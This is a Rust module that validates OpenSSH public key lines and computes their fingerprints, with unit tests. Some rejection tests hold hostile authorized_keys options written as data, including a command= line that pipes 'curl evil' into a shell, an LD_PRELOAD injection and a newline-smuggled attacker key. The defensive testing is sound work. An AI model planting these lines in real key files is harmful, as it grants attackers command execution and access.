//! OpenSSH public key lines: validation and fingerprints, done here rather than trusted.
//!
//! A line from the metadata is accepted only as `TYPE BASE64 [COMMENT]` on one line, with a
//! known key type, a blob that decodes, whose embedded type equals `TYPE` and whose fields have
//! the shape of that type. Options (`command=`, `from=`...) are refused: they would let whoever
//! controls the metadata run commands or widen access in ways the project's key list does not show.

use base64::Engine;
use base64::engine::general_purpose::{STANDARD, STANDARD_NO_PAD};
use sha2::{Digest, Sha256};

/// The key types accepted in the managed block.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum KeyType {
    Ed25519,
    Rsa,
    EcdsaP256,
    EcdsaP384,
    EcdsaP521,
    SkEd25519,
    SkEcdsaP256,
}

impl KeyType {
    pub const ALL: [KeyType; 7] = [
        KeyType::Ed25519,
        KeyType::Rsa,
        KeyType::EcdsaP256,
        KeyType::EcdsaP384,
        KeyType::EcdsaP521,
        KeyType::SkEd25519,
        KeyType::SkEcdsaP256,
    ];

    /// The name as written in the line and embedded in the blob.
    pub fn name(self) -> &'static str {
        match self {
            KeyType::Ed25519 => "ssh-ed25519",
            KeyType::Rsa => "ssh-rsa",
            KeyType::EcdsaP256 => "ecdsa-sha2-nistp256",
            KeyType::EcdsaP384 => "ecdsa-sha2-nistp384",
            KeyType::EcdsaP521 => "ecdsa-sha2-nistp521",
            KeyType::SkEd25519 => "sk-ssh-ed25519@openssh.com",
            KeyType::SkEcdsaP256 => "sk-ecdsa-sha2-nistp256@openssh.com",
        }
    }

    pub fn from_name(s: &str) -> Option<KeyType> {
        KeyType::ALL.into_iter().find(|t| t.name() == s)
    }

    /// The curve name and the length of an uncompressed point, for the ECDSA types.
    fn curve(self) -> Option<(&'static str, usize)> {
        match self {
            KeyType::EcdsaP256 | KeyType::SkEcdsaP256 => Some(("nistp256", 65)),
            KeyType::EcdsaP384 => Some(("nistp384", 97)),
            KeyType::EcdsaP521 => Some(("nistp521", 133)),
            _ => None,
        }
    }
}

/// A validated public key.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct PublicKey {
    pub kind: KeyType,
    /// The decoded key blob (what fingerprints and sshd compare).
    pub blob: Vec<u8>,
    pub comment: Option<String>,
}

impl PublicKey {
    /// `SHA256:` and the unpadded base64 of the blob's SHA-256, as `ssh-keygen -l` prints it.
    pub fn fingerprint(&self) -> String {
        fingerprint(&self.blob)
    }

    /// The line written to `authorized_keys`: type, canonical base64, comment.
    pub fn to_line(&self) -> String {
        let mut line = format!("{} {}", self.kind.name(), STANDARD.encode(&self.blob));
        if let Some(c) = &self.comment {
            line.push(' ');
            line.push_str(c);
        }
        line
    }
}

pub fn fingerprint(blob: &[u8]) -> String {
    format!("SHA256:{}", STANDARD_NO_PAD.encode(Sha256::digest(blob)))
}

/// Why a line was refused. Never holds the whole line: it may be long or hostile.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum KeyError {
    #[error("it is empty")]
    Empty,
    #[error("it contains {what} at character {position}; a key must be one line of printable text")]
    ControlCharacter { what: String, position: usize },
    #[error(
        "it starts with options ({options}) before the key; options such as command= or from= \
         are not accepted from the metadata"
    )]
    Options { options: String },
    #[error("{found:?} is not a supported key type (supported: {})", supported())]
    UnknownType { found: String },
    #[error("it has a key type but no key data")]
    MissingBlob,
    #[error("the key data is not valid base64: {reason}")]
    Base64 { reason: String },
    #[error("the key data says it is a {embedded:?} key, but the line says {declared:?}")]
    TypeMismatch { declared: String, embedded: String },
    #[error("the {kind} key data is malformed: {reason}")]
    Malformed { kind: &'static str, reason: String },
}

fn supported() -> String {
    KeyType::ALL.map(|t| t.name()).join(", ")
}

/// A line that was refused, with the fingerprint of its key data when that could be decoded
/// (so a person can tell which of their keys it was).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Rejected {
    pub error: KeyError,
    pub fingerprint: Option<String>,
}

fn describe_char(c: char) -> String {
    match c {
        '\n' => "a newline".into(),
        '\r' => "a carriage return".into(),
        '\0' => "a NUL byte".into(),
        c => format!("the control character U+{:04X}", c as u32),
    }
}

fn is_separator(c: char) -> bool {
    c == ' ' || c == '\t'
}

/// Split off the first field (up to a space or tab) and the rest with leading separators removed.
fn next_field(s: &str) -> (&str, &str) {
    match s.find(is_separator) {
        Some(i) => (&s[..i], s[i..].trim_start_matches(is_separator)),
        None => (s, ""),
    }
}

/// The fingerprint of whatever in the line looks like key data: the field after the first
/// known type name, if it decodes.
fn salvage_fingerprint(line: &str) -> Option<String> {
    let fields: Vec<&str> = line.split(is_separator).filter(|f| !f.is_empty()).collect();
    let i = fields
        .iter()
        .position(|f| KeyType::from_name(f).is_some())?;
    let blob = STANDARD.decode(fields.get(i + 1)?).ok()?;
    Some(fingerprint(&blob))
}

/// Validate one line from the document's `ssh_keys`.
pub fn parse(line: &str) -> Result<PublicKey, Rejected> {
    parse_inner(line).map_err(|error| Rejected {
        fingerprint: salvage_fingerprint(line),
        error,
    })
}

fn parse_inner(line: &str) -> Result<PublicKey, KeyError> {
    if let Some((i, c)) = line
        .chars()
        .enumerate()
        .find(|(_, c)| c.is_control() && *c != '\t')
    {
        return Err(KeyError::ControlCharacter {
            what: describe_char(c),
            position: i + 1,
        });
    }
    let line = line.trim_matches(is_separator);
    if line.is_empty() {
        return Err(KeyError::Empty);
    }
    let (first, rest) = next_field(line);
    let Some(kind) = KeyType::from_name(first) else {
        // `opts type blob`: a known type later in the line means the front is options.
        let fields: Vec<&str> = line.split(is_separator).filter(|f| !f.is_empty()).collect();
        if let Some(i) = fields.iter().position(|f| KeyType::from_name(f).is_some()) {
            let options = fields[..i].join(" ");
            let options = match options.char_indices().nth(60) {
                Some((cut, _)) => format!("{}...", &options[..cut]),
                None => options,
            };
            return Err(KeyError::Options { options });
        }
        let found = match first.char_indices().nth(40) {
            Some((cut, _)) => format!("{}...", &first[..cut]),
            None => first.to_string(),
        };
        return Err(KeyError::UnknownType { found });
    };
    let (encoded, comment) = next_field(rest);
    if encoded.is_empty() {
        return Err(KeyError::MissingBlob);
    }
    let blob = STANDARD.decode(encoded).map_err(|e| KeyError::Base64 {
        reason: e.to_string(),
    })?;
    check_blob(kind, &blob)?;
    Ok(PublicKey {
        kind,
        blob,
        comment: Some(comment.to_string()).filter(|c| !c.is_empty()),
    })
}

/// Reads SSH wire-format fields (RFC 4251: uint32 length, then bytes).
struct Reader<'a> {
    buf: &'a [u8],
    kind: &'static str,
}

impl<'a> Reader<'a> {
    fn malformed(&self, reason: impl Into<String>) -> KeyError {
        KeyError::Malformed {
            kind: self.kind,
            reason: reason.into(),
        }
    }

    fn string(&mut self, field: &str) -> Result<&'a [u8], KeyError> {
        let Some((len, rest)) = self.buf.split_first_chunk::<4>() else {
            return Err(self.malformed(format!("it ends before the {field}")));
        };
        let len = u32::from_be_bytes(*len) as usize;
        if len > rest.len() {
            return Err(self.malformed(format!(
                "the {field} claims {len} bytes but only {} follow",
                rest.len()
            )));
        }
        let (value, rest) = rest.split_at(len);
        self.buf = rest;
        Ok(value)
    }

    fn end(&self) -> Result<(), KeyError> {
        if self.buf.is_empty() {
            Ok(())
        } else {
            Err(self.malformed(format!("{} unexpected bytes after the key", self.buf.len())))
        }
    }
}

/// Bits of a positive mpint (leading zero bytes ignored).
fn mpint_bits(v: &[u8]) -> usize {
    let v = match v.iter().position(|b| *b != 0) {
        Some(i) => &v[i..],
        None => return 0,
    };
    v.len() * 8 - v[0].leading_zeros() as usize
}

/// OpenSSH refuses RSA keys below this size.
pub const RSA_MIN_BITS: usize = 1024;

fn check_blob(kind: KeyType, blob: &[u8]) -> Result<(), KeyError> {
    let mut r = Reader {
        buf: blob,
        kind: kind.name(),
    };
    let embedded = r.string("key type")?;
    if embedded != kind.name().as_bytes() {
        return Err(KeyError::TypeMismatch {
            declared: kind.name().to_string(),
            embedded: String::from_utf8_lossy(&embedded[..embedded.len().min(60)]).into_owned(),
        });
    }
    match kind {
        KeyType::Ed25519 | KeyType::SkEd25519 => {
            let pk = r.string("public key")?;
            if pk.len() != 32 {
                return Err(r.malformed(format!("the public key is {} bytes, not 32", pk.len())));
            }
        }
        KeyType::Rsa => {
            let e = r.string("exponent")?;
            let n = r.string("modulus")?;
            if e.first().is_some_and(|b| b & 0x80 != 0) || n.first().is_some_and(|b| b & 0x80 != 0)
            {
                return Err(r.malformed("a negative number"));
            }
            if mpint_bits(e) == 0 {
                return Err(r.malformed("the exponent is zero"));
            }
            let bits = mpint_bits(n);
            if bits < RSA_MIN_BITS {
                return Err(r.malformed(format!(
                    "the modulus has {bits} bits, fewer than the {RSA_MIN_BITS} OpenSSH accepts"
                )));
            }
        }
        KeyType::EcdsaP256 | KeyType::EcdsaP384 | KeyType::EcdsaP521 | KeyType::SkEcdsaP256 => {
            let (curve, point_len) = kind.curve().unwrap_or(("", 0));
            let c = r.string("curve name")?;
            if c != curve.as_bytes() {
                return Err(r.malformed(format!(
                    "the curve is {:?}, not {curve:?}",
                    String::from_utf8_lossy(&c[..c.len().min(40)])
                )));
            }
            let q = r.string("public point")?;
            if q.len() != point_len || q.first() != Some(&0x04) {
                return Err(r.malformed(format!(
                    "the public point is not an uncompressed {curve} point ({} bytes)",
                    q.len()
                )));
            }
        }
    }
    if matches!(kind, KeyType::SkEd25519 | KeyType::SkEcdsaP256) {
        let app = r.string("application")?;
        if app.is_empty() || std::str::from_utf8(app).is_err() {
            return Err(r.malformed("the security key application is empty or not text"));
        }
    }
    r.end()
}

#[cfg(test)]
pub(crate) mod tests {
    use super::*;

    fn wire(fields: &[&[u8]]) -> Vec<u8> {
        let mut out = Vec::new();
        for f in fields {
            out.extend_from_slice(&(f.len() as u32).to_be_bytes());
            out.extend_from_slice(f);
        }
        out
    }

    pub fn line(kind: &str, fields: &[&[u8]], comment: &str) -> String {
        let mut all: Vec<&[u8]> = vec![kind.as_bytes()];
        all.extend_from_slice(fields);
        format!("{kind} {} {comment}", STANDARD.encode(wire(&all)))
            .trim_end()
            .to_string()
    }

    fn point(len: usize) -> Vec<u8> {
        let mut p = vec![0x04];
        p.extend((1..len).map(|i| i as u8));
        p
    }

    fn rsa_modulus(bits: usize) -> Vec<u8> {
        let mut n = vec![0x00, 0xc5];
        n.extend(std::iter::repeat_n(0x5a, bits / 8 - 1));
        n
    }

    /// One well-formed line of every supported type, built from wire fields.
    pub fn every_type() -> Vec<(KeyType, String)> {
        let pk = [7u8; 32];
        vec![
            (KeyType::Ed25519, line("ssh-ed25519", &[&pk], "a@b")),
            (
                KeyType::Rsa,
                line("ssh-rsa", &[&[1, 0, 1], &rsa_modulus(2048)], "rsa key"),
            ),
            (
                KeyType::EcdsaP256,
                line("ecdsa-sha2-nistp256", &[b"nistp256", &point(65)], ""),
            ),
            (
                KeyType::EcdsaP384,
                line("ecdsa-sha2-nistp384", &[b"nistp384", &point(97)], "p384"),
            ),
            (
                KeyType::EcdsaP521,
                line("ecdsa-sha2-nistp521", &[b"nistp521", &point(133)], "p521"),
            ),
            (
                KeyType::SkEd25519,
                line("sk-ssh-ed25519@openssh.com", &[&pk, b"ssh:"], "yubi"),
            ),
            (
                KeyType::SkEcdsaP256,
                line(
                    "sk-ecdsa-sha2-nistp256@openssh.com",
                    &[b"nistp256", &point(65), b"ssh:"],
                    "token",
                ),
            ),
        ]
    }

    #[test]
    fn accepts_every_supported_type() {
        for (kind, l) in every_type() {
            let key = parse(&l).unwrap_or_else(|e| panic!("{l}: {}", e.error));
            assert_eq!(key.kind, kind);
            assert_eq!(
                key.to_line(),
                l,
                "canonical form of a clean line is the line"
            );
        }
    }

    #[test]
    fn keeps_comments_with_spaces_and_normalizes_separators() {
        let (_, l) = &every_type()[0];
        let (ty, rest) = l.split_once(' ').unwrap();
        let (blob, _) = rest.split_once(' ').unwrap();
        let messy = format!("\t{ty}  \t{blob}   work laptop  (2026)  ");
        let key = parse(&messy).unwrap();
        assert_eq!(key.comment.as_deref(), Some("work laptop  (2026)"));
        assert_eq!(key.to_line(), format!("{ty} {blob} work laptop  (2026)"));
        let bare = parse(&format!("{ty} {blob}")).unwrap();
        assert_eq!(bare.comment, None);
        assert_eq!(bare.to_line(), format!("{ty} {blob}"));
    }

    #[test]
    fn fingerprint_is_sha256_of_the_blob_unpadded() {
        let (_, l) = &every_type()[0];
        let key = parse(l).unwrap();
        let fp = key.fingerprint();
        assert!(fp.starts_with("SHA256:"));
        assert_eq!(
            fp.len(),
            "SHA256:".len() + 43,
            "32 bytes are 43 unpadded base64 characters"
        );
        assert!(!fp.ends_with('='));
    }

    #[test]
    fn ssh_keygen_agrees_on_security_key_lines() {
        // No hardware token is needed to read an sk-ssh-ed25519 public key.
        let (_, l) = every_type().remove(5);
        let key = parse(&l).unwrap();
        let dir = tempfile::tempdir().unwrap();
        let file = dir.path().join("sk.pub");
        std::fs::write(&file, format!("{l}\n")).unwrap();
        let out = std::process::Command::new("ssh-keygen")
            .args(["-l", "-E", "sha256", "-f"])
            .arg(&file)
            .output()
            .expect("ssh-keygen (openssh-client) must be installed: scripts/install-deps");
        let stdout = String::from_utf8_lossy(&out.stdout);
        assert!(
            out.status.success(),
            "{stdout} {}",
            String::from_utf8_lossy(&out.stderr)
        );
        assert!(
            stdout.contains(&key.fingerprint()),
            "{stdout} vs {}",
            key.fingerprint()
        );
        assert!(stdout.contains("ED25519-SK"), "{stdout}");
    }

    fn rejected(l: &str) -> Rejected {
        match parse(l) {
            Ok(k) => panic!("{l:?} accepted as {k:?}"),
            Err(r) => r,
        }
    }

    #[test]
    fn refuses_options_and_names_the_key() {
        let (_, good) = &every_type()[0];
        let expect_fp = parse(good).unwrap().fingerprint();
        for opts in [
            "command=\"/bin/sh -c 'curl evil|sh'\"",
            "from=\"*\"",
            "no-pty,permitopen=\"*:*\"",
            "environment=\"LD_PRELOAD=/tmp/x.so\"",
            "restrict,command=\"id\"",
        ] {
            let r = rejected(&format!("{opts} {good}"));
            assert!(
                matches!(r.error, KeyError::Options { .. }),
                "{opts}: {:?}",
                r.error
            );
            assert_eq!(r.fingerprint.as_deref(), Some(expect_fp.as_str()), "{opts}");
        }
    }

    #[test]
    fn refuses_embedded_newlines_and_control_characters() {
        let (_, good) = &every_type()[0];
        for (bad, what) in [
            (format!("{good}\nssh-ed25519 AAAA attacker"), "a newline"),
            (
                format!("{good}\r\ncommand=\"x\" ssh-rsa AAAA"),
                "a carriage return",
            ),
            (format!("{good} a\0b"), "NUL"),
            (format!("{good} \u{1b}[2Jclear"), "U+001B"),
            (format!("{good}\u{7f}"), "U+007F"),
        ] {
            let r = rejected(&bad);
            assert!(
                matches!(r.error, KeyError::ControlCharacter { .. }),
                "{bad:?}"
            );
            assert!(r.error.to_string().contains(what), "{}", r.error);
        }
    }

    #[test]
    fn refuses_garbage_and_mismatches() {
        let pk = [7u8; 32];
        let cases: Vec<(String, &str)> = vec![
            (String::new(), "empty"),
            ("   ".into(), "empty"),
            ("hello world".into(), "not a supported key type"),
            (
                "ssh-dss AAAAB3NzaC1kc3MAAACBAP".into(),
                "not a supported key type",
            ),
            (
                "ssh-ed25519-cert-v01@openssh.com AAAA".into(),
                "not a supported key type",
            ),
            ("ssh-ed25519".into(), "no key data"),
            ("ssh-ed25519 !!!notbase64!!!".into(), "not valid base64"),
            // a good blob with its last character cut off
            (
                {
                    let l = line("ssh-ed25519", &[&pk], "");
                    l[..l.len() - 1].to_string()
                },
                "base64",
            ),
            // the blob says ssh-rsa, the line says ssh-ed25519
            (
                line("ssh-rsa", &[&[1, 0, 1], &rsa_modulus(2048)], "x").replacen(
                    "ssh-rsa",
                    "ssh-ed25519",
                    1,
                ),
                "says it is a \"ssh-rsa\" key",
            ),
            (line("ssh-ed25519", &[&pk[..31]], ""), "31 bytes"),
            (
                line("ssh-ed25519", &[&pk, b"extra"], ""),
                "unexpected bytes",
            ),
            (line("ssh-ed25519", &[], ""), "ends before the public key"),
            (
                line("ssh-rsa", &[&[1, 0, 1], &rsa_modulus(512)], ""),
                "fewer than the 1024",
            ),
            (
                line("ssh-rsa", &[&[0], &rsa_modulus(2048)], ""),
                "exponent is zero",
            ),
            (
                line("ecdsa-sha2-nistp256", &[b"nistp384", &point(65)], ""),
                "curve",
            ),
            (
                line("ecdsa-sha2-nistp384", &[b"nistp384", &point(65)], ""),
                "uncompressed",
            ),
            (
                line("sk-ssh-ed25519@openssh.com", &[&pk], ""),
                "application",
            ),
            (
                line("sk-ssh-ed25519@openssh.com", &[&pk, b""], ""),
                "application",
            ),
        ];
        for (l, expect) in cases {
            let r = rejected(&l);
            assert!(r.error.to_string().contains(expect), "{l:?}: {}", r.error);
        }
        // A length prefix larger than the data must not panic or over-read.
        let mut blob = wire(&[b"ssh-ed25519"]);
        blob.extend_from_slice(&u32::MAX.to_be_bytes());
        let r = rejected(&format!("ssh-ed25519 {}", STANDARD.encode(blob)));
        assert!(r.error.to_string().contains("claims"), "{}", r.error);
    }
}
